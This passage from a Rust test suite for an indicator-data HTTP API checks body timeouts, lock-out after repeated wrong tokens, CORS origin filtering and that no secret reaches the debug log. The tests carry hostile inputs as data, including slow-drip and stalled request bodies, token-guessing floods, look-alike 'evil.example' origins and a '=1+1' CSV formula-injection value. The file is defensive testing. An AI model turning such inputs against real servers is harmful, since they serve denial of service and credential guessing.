            a.status == 400 || a.status == 404,
            "{what}: {} {}",
            a.status,
            &a.body[..a.body.len().min(300)]
        );
        a.assert_problem(a.status, &what);
    }
    assert_unchanged(&s, &before, "hostile paths");
}

// ── slow and flooding clients ─────────────────────────────────────────────

#[test]
fn a_body_that_drips_in_slower_than_the_body_timeout_gets_408() {
    let s = TestServer::start_with(&["--body-timeout-secs", "1"]);
    let before = seed(&s);
    let put_head = |len: usize| {
        format!(
            "PUT /v1/indicators/{RATE}/readings/{PERIOD} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {ADMIN_TOKEN}\r\nContent-Type: application/json\r\nContent-Length: {len}\r\n\r\n"
        )
    };
    // Part of the body, then nothing.
    let a = raw_exchange(
        &s.base,
        &put_head(40),
        vec![br#"{"value": 7.1, "note": "sl"#.to_vec()],
        Duration::ZERO,
    );
    a.assert_problem(408, "a stalled PUT body");
    assert!(
        a.elapsed >= Duration::from_millis(900) && a.elapsed < Duration::from_secs(10),
        "the 408 came after {:?}",
        a.elapsed
    );
    assert_unchanged(&s, &before, "a stalled PUT body");

    // A complete, valid body dripped one byte every 150 ms: every byte arrives well
    // within any per-read timeout, but the body as a whole takes 3 s.
    let body = format!(r#"{{"value": 7.1, "note": "{}"}}"#, "x".repeat(8));
    let a = raw_exchange(
        &s.base,
        &put_head(body.len()),
        body.bytes().map(|b| vec![b]).collect(),
        Duration::from_millis(150),
    );
    a.assert_problem(408, "a dripping PUT body");
    assert!(
        a.elapsed < Duration::from_secs(3),
        "408 after {:?}",
        a.elapsed
    );
    assert_unchanged(&s, &before, "a dripping PUT body");

    // A chunked batch whose last chunk never comes.
    let a = raw_exchange(
        &s.base,
        &format!(
            "POST /v1/readings HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {ADMIN_TOKEN}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
        ),
        {
            let data = format!(r#"[{{"indicator": "{RATE}", "period": "2023-05""#);
            vec![format!("{:x}\r\n{data}\r\n", data.len()).into_bytes()]
        },
        Duration::ZERO,
    );
    a.assert_problem(408, "a stalled chunked batch");
    assert_unchanged(&s, &before, "a stalled chunked batch");

    // The server is still answering normally.
    let r = put_raw(&s, RATE, "2023-05", r#"{"value": 7.1}"#);
    assert_eq!(r.status(), 201);
}

#[test]
fn a_flood_of_bad_tokens_locks_the_address_out_until_the_window_ends() {
    // The lock-out window shortened from 60 s to LOCKOUT, so that waiting it out takes
    // seconds; `the_default_lock_out_lasts_a_minute` checks the default.
    let s = TestServer::builder().auth_throttle(20, LOCKOUT).start();
    let before = seed(&s);
    let url = s.url(&format!("/v1/indicators/{RATE}/readings/{PERIOD}"));
    let put = |auth: Option<&str>| {
        let mut req = s
            .client
            .put(&url)
            .header("content-type", "application/json")
            .body(r#"{"value": 99}"#);
        if let Some(a) = auth {
            req = req.header("authorization", a);
        }
        req.send().expect("PUT")
    };
    let mut statuses = Vec::new();
    let mut retry_after = 0;
    for i in 0..25 {
        let r = put(Some(&format!("Bearer guessed-token-{i}")));
        statuses.push(r.status().as_u16());
        if r.status() == 429 {
            let ra: u64 = header(&r, "retry-after")
                .and_then(|v| v.parse().ok())
                .expect("a 429 carries Retry-After in seconds");
            assert!((1..=60).contains(&ra), "Retry-After {ra}");
            retry_after = ra;
            assert_problem(r, 429, None, &format!("guess {}", i + 1));
        }
    }
    // Observed: the first 20 guesses are 401, every later one 429.
    assert_eq!(&statuses[..20], &[401; 20], "{statuses:?}");
    assert_eq!(&statuses[20..], &[429; 5], "{statuses:?}");
    assert_unchanged(&s, &before, "the flood");

    // Locked out for wrong tokens only: the right token from the same address still
    // works (a valid token is never refused), and a request with no token is a plain
    // 401, not a failed login; public reads still answer.
    let locked_at = Instant::now();
    assert_problem(put(None), 401, None, "no token during the lock-out");
    assert_problem(
        put(Some("Bearer still-guessing")),
        429,
        None,
        "a wrong token during the lock-out",
    );
    assert_eq!(s.get("/healthz").status(), 200);
    assert_unchanged(&s, &before, "the lock-out");
    let r = put(Some(&format!("Bearer {ADMIN_TOKEN}")));
    assert_eq!(r.status(), 200, "the admin token during the lock-out");

    // The window ends LOCKOUT after the first failure: wait out Retry-After, then a
    // wrong token is a plain 401 again.
    assert!(
        retry_after <= LOCKOUT.as_secs(),
        "Retry-After {retry_after}"
    );
    // The lock-out is real time (the API's throttle reads no clock of ours): waiting it
    // out is what this test is about.
    std::thread::sleep(Duration::from_secs(retry_after).saturating_sub(locked_at.elapsed()));
    let deadline = Instant::now() + Duration::from_secs(3);
    let answer = loop {
        let r = put(Some("Bearer one-more-guess"));
        if r.status() != 429 || Instant::now() > deadline {
            break r;
        }
        // Polling for the end of the window, which is coming.
        std::thread::sleep(Duration::from_millis(200));
    };
    assert_eq!(answer.status(), 401, "a wrong token after the window");
    assert_eq!(
        s.get_json(&format!("/v1/indicators/{RATE}/readings/{PERIOD}"))["value"],
        99.0
    );
}

#[test]
fn anonymous_page_loads_never_lock_anyone_out() {
    // Behind a proxy every browser shares one address: requests without a token
    // (page loads, public reads, a write sent before logging in) are not failed logins.
    let s = TestServer::builder().auth_throttle(3, LOCKOUT).start();
    let url = s.url(&format!("/v1/indicators/{RATE}/readings/{PERIOD}"));
    for _ in 0..30 {
        let r = s
            .client
            .put(&url)
            .json(&json!({"value": 1}))
            .send()
            .unwrap();
        assert_eq!(r.status(), 401);
    }
    let r = s
        .client
        .put(&url)
        .bearer_auth(ADMIN_TOKEN)
        .json(&json!({"value": 2}))
        .send()
        .unwrap();
    assert_eq!(r.status(), 201, "the admin token after 30 anonymous writes");
}

#[test]
fn behind_a_trusted_proxy_each_forwarded_client_has_its_own_count() {
    let s = TestServer::builder()
        .auth_throttle(3, LOCKOUT)
        .args(&["--trust-proxy", "127.0.0.1"])
        .start();
    let url = s.url(&format!("/v1/indicators/{RATE}/readings/{PERIOD}"));
    let put = |client: &str, token: &str| {
        s.client
            .put(&url)
            .header("x-forwarded-for", client)
            .bearer_auth(token)
            .json(&json!({"value": 1}))
            .send()
            .unwrap()
            .status()
            .as_u16()
    };
    let guesser: Vec<u16> = (0..5)
        .map(|i| put("198.51.100.66", &format!("g{i}")))
        .collect();
    assert_eq!(guesser, [401, 401, 401, 429, 429]);
    // Another client behind the same proxy is not locked out by the guesser.
    assert_eq!(put("198.51.100.7", "typo"), 401);
}

#[test]
fn bug_retry_after_is_rounded_down() {
    let s = TestServer::builder().auth_throttle(20, LOCKOUT).start();
    let url = s.url(&format!("/v1/indicators/{RATE}/readings/{PERIOD}"));
    let put = |token: &str| {
        s.client
            .put(&url)
            .bearer_auth(token)
            .json(&json!({"value": 1}))
            .send()
            .unwrap()
    };
    for i in 0..20 {
        assert_eq!(put(&format!("guess-{i}")).status(), 401);
    }
    let r = put("guess-20");
    assert_eq!(r.status(), 429);
    let ra: u64 = header(&r, "retry-after").unwrap().parse().unwrap();
    // A client that honours Retry-After to the second must not be refused again. The
    // lock-out is real time: honouring it means waiting.
    assert!((1..=LOCKOUT.as_secs()).contains(&ra), "Retry-After {ra}");
    std::thread::sleep(Duration::from_secs(ra));
    let r = put("guess-21");
    assert!(
        r.status() == 401,
        "after waiting Retry-After ({ra} s): {} Retry-After {:?}",
        r.status(),
        header(&r, "retry-after")
    );
}

#[test]
fn the_default_lock_out_lasts_a_minute() {
    // The other lock-out tests shorten the window; this is the one servers run with.
    let s = TestServer::start();
    let url = s.url(&format!("/v1/indicators/{RATE}/readings/{PERIOD}"));
    let put = |token: &str| {
        s.client
            .put(&url)
            .bearer_auth(token)
            .json(&json!({"value": 1}))
            .send()
            .unwrap()
    };
    for i in 0..20 {
        assert_eq!(put(&format!("guess-{i}")).status(), 401);
    }
    let r = put("guess-20");
    assert_eq!(r.status(), 429);
    let ra: u64 = header(&r, "retry-after").unwrap().parse().unwrap();
    assert!((50..=60).contains(&ra), "Retry-After {ra}");
    // The refusal is counted in /metrics under its cap.
    let metrics = s.get("/metrics").text().unwrap();
    assert!(
        metrics.contains("zhibiao_refusals_total{cap=\"auth_throttle\"}"),
        "{metrics}"
    );
}

// ── CORS ──────────────────────────────────────────────────────────────────

fn preflight(s: &impl Api, origin: &str) -> Response {
    s.client()
        .request(
            reqwest::Method::OPTIONS,
            s.url(&format!("/v1/indicators/{RATE}/readings/{PERIOD}")),
        )
        .header("origin", origin)
        .header("access-control-request-method", "PUT")
        .header(
            "access-control-request-headers",
            "authorization, content-type",
        )
        .send()
        .expect("OPTIONS")
}

#[test]
fn cors_is_off_by_default() {
    let (s, before) = seeded();
    let r = preflight(&s, "https://dash.example");
    assert!(
        header(&r, "access-control-allow-origin").is_none(),
        "preflight allowed by default: {:?}",
        r.headers()
    );
    assert!(
        !r.status().is_success() && !r.status().is_server_error(),
        "{}",
        r.status()
    );
    // Observed: the preflight is an OPTIONS the route does not take, so 405.
    assert_problem(r, 405, None, "a preflight with CORS off");
    // A cross-origin read gets its answer, but no header lets a browser page see it.
    let r = s
        .client
        .get(s.url("/healthz"))
        .header("origin", "https://dash.example")
        .send()
        .unwrap();
    assert_eq!(r.status(), 200);
    assert!(header(&r, "access-control-allow-origin").is_none());
    assert_unchanged(&s, &before, "preflights");
}

#[test]
fn cors_allows_only_the_origins_it_was_given() {
    let s = TestServer::start_with(&["--cors-origin", "https://dash.example"]);
    let before = seed(&s);

    let r = preflight(&s, "https://dash.example");
    assert!(r.status().is_success(), "allowed preflight: {}", r.status());
    assert_eq!(
        header(&r, "access-control-allow-origin").as_deref(),
        Some("https://dash.example")
    );
    let methods = header(&r, "access-control-allow-methods").unwrap_or_default();
    assert!(methods.contains("PUT"), "allow-methods {methods}");
    let headers = header(&r, "access-control-allow-headers")
        .unwrap_or_default()
        .to_ascii_lowercase();
    assert!(headers.contains("authorization"), "allow-headers {headers}");
    let r = s
        .client
        .get(s.url("/healthz"))
        .header("origin", "https://dash.example")
        .send()
        .unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(
        header(&r, "access-control-allow-origin").as_deref(),
        Some("https://dash.example")
    );

    // Another origin, a look-alike, another scheme and another port are all refused.
    for origin in [
        "https://evil.example",
        "https://dash.example.evil.example",
        "http://dash.example",
        "https://dash.example:8443",
        "null",
    ] {
        let r = preflight(&s, origin);
        assert!(
            header(&r, "access-control-allow-origin").is_none(),
            "{origin}: {:?}",
            r.headers()
        );
        // Observed: 403, as text/plain (see `bug_cors_refusals_are_not_problem_json`).
        assert_eq!(r.status(), 403, "{origin}");
    }
    // The write itself from a foreign origin, with a valid token, is not carried out.
    let r = s
        .client
        .put(s.url(&format!("/v1/indicators/{RATE}/readings/{PERIOD}")))
        .header("origin", "https://evil.example")
        .bearer_auth(ADMIN_TOKEN)
        .json(&json!({"value": 99}))
        .send()
        .unwrap();
    assert_eq!(r.status(), 403);
    assert!(header(&r, "access-control-allow-origin").is_none());
    assert_unchanged(&s, &before, "cross-origin requests");
}

#[test]
fn bug_cors_refusals_are_not_problem_json() {
    let s = TestServer::start_with(&["--cors-origin", "https://dash.example"]);
    let r = preflight(&s, "https://evil.example");
    assert_problem(r, 403, None, "a refused preflight");
}

#[test]
fn a_malformed_cors_origin_stops_the_server() {
    for origin in ["https://dash.example/", "*", "dash.example"] {
        let tmp = tempfile::tempdir().unwrap();
        let mut child = crate::common::spawn(
            serve_command(&tmp.path().join("db"), &["--cors-origin", origin])
                .stdout(Stdio::null())
                .stderr(Stdio::piped()),
        );
        let status = crate::common::wait_exit(&mut child, Duration::from_secs(20))
            .unwrap_or_else(|_| panic!("--cors-origin {origin}: the server kept running"));
        let mut err = String::new();
        child
            .stderr
            .take()
            .unwrap()
            .read_to_string(&mut err)
            .unwrap();
        assert!(!status.success(), "{origin}");
        assert!(err.contains("--cors-origin"), "{origin}: {err}");
    }
}

#[test]
fn bug_a_malformed_cors_origin_is_refused_before_the_server_announces_itself() {
    let tmp = tempfile::tempdir().unwrap();
    let db = tmp.path().join("db");
    let out = crate::common::output(&mut serve_command(
        &db,
        &["--cors-origin", "https://dash.example/"],
    ));
    assert!(!out.status.success());
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        !stdout.contains("zhibiao listening on"),
        "a script waiting for the address was told the server is up: {stdout}"
    );
    assert!(!db.exists(), "a refused command line created a store");
}

// ── secrets ───────────────────────────────────────────────────────────────

#[test]
fn tokens_never_appear_in_the_log_even_at_debug() {
    // The log of a process: what an operator's journal would hold.
    let s = TestServer::builder()
        .process()
        .env("RUST_LOG", "debug")
        .capture_stderr()
        .start();
    let wrong = "wrong-secret-4f1d9c0e7b2a";
    let query_secret = "query-secret-8e3a5b1c9d7f";
    seed(&s);
    // A submitter token: its secret is shown once, in this answer, and never logged.
    let r = s
        .client
        .post(s.url("/v1/tokens"))
        .bearer_auth(ADMIN_TOKEN)
        .json(&json!({"name": "kgj", "role": "submitter", "units": ["县科工局"]}))
        .send()
        .unwrap();
    assert_eq!(r.status(), 201);
    let kgj = r.json::<Value>().unwrap()["token"]
        .as_str()
        .unwrap()
        .to_string();
    let put = |token: &str, period: &str| {
        s.client
            .put(s.url(&format!("/v1/indicators/{CUMULATIVE}/readings/{period}")))
            .bearer_auth(token)
            // Below the seeded June figure in May, above it in September.
            .json(&json!({"value": if period == "2023-05" { 40 } else { 50 }}))
            .send()
            .unwrap()
            .status()
            .as_u16()
    };
    assert_eq!(put(&kgj, "2023-05"), 201);
    assert_eq!(put(ADMIN_TOKEN, "2023-09"), 201);
    assert_eq!(put(wrong, "2023-09"), 401);
    // Failures that echo parts of the request, with a secret nearby.
    assert_eq!(
        s.client
            .put(s.url(&format!(
                "/v1/indicators/{CUMULATIVE}/readings/2023-09?access_token={query_secret}"
            )))
            .bearer_auth(ADMIN_TOKEN)
            .json(&json!({"value": 50}))
            .send()
            .unwrap()
            .status(),
        400
    );
    let r = post_batch(
        &s,
        "",
        "text/csv",
        format!("indicator,period,value\n{CUMULATIVE},2023-04,=1+1\n"),
    );
    assert_eq!(r.status(), 400);
    let r = s
        .client
        .get(s.url("/v1/admin/backup"))
        .bearer_auth(ADMIN_TOKEN)
        .send()
        .unwrap();
    assert_eq!(r.status(), 200);
    let r = s
        .client
        .get(s.url("/v1/tokens"))
        .header("authorization", format!("Basic {kgj}"))
        .send()
        .unwrap();
    assert_eq!(r.status(), 401);
    let log = s.stop_log();
    assert!(
        log.lines().count() > 10 && log.contains("DEBUG"),
        "the debug log was not captured: {log}"
    );
    for (what, secret) in [
        ("the admin token", ADMIN_TOKEN),
        ("a created token", kgj.as_str()),
        ("a wrong token", wrong),
        ("a secret in the query", query_secret),
    ] {
        assert!(!log.contains(secret), "{what} is in the log");
    }
}

#[test]
fn a_generated_admin_token_is_written_to_its_file_and_not_to_the_log() {
    // Without ZHIBIAO_ADMIN_TOKEN the first start generates the admin token.
    let s = TestServer::builder()
        .process()
        .admin_token(None)
        .env("RUST_LOG", "debug")
        .capture_stderr()
        .start();
    let secret = std::fs::read_to_string(s.dir().join("admin-token"))
        .expect("admin-token file")
        .trim()
        .to_string();
    assert!(secret.len() >= 20, "{secret:?}");
    let r = s
        .client
        .put(s.url(&format!("/v1/indicators/{RATE}/readings/{PERIOD}")))
        .bearer_auth(&secret)
        .json(&json!({"value": 7.1}))
        .send()
        .unwrap();
    assert_eq!(r.status(), 201);
    let log = s.stop_log();
    assert!(log.contains("admin-token"), "the log names the file: {log}");
    assert!(
        !log.contains(&secret),
        "the generated admin token is in the log"
    );
}
